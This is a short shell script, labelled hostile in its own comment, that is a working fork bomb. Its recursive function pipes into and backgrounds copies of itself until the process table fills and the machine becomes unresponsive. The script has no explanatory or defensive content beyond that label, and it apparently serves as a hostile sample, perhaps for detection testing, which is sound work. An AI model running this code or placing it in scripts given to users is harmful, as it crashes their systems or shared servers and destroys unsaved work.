#!/bin/sh
# Hostile: the classic fork bomb.
b() { b | b & }
b
wait
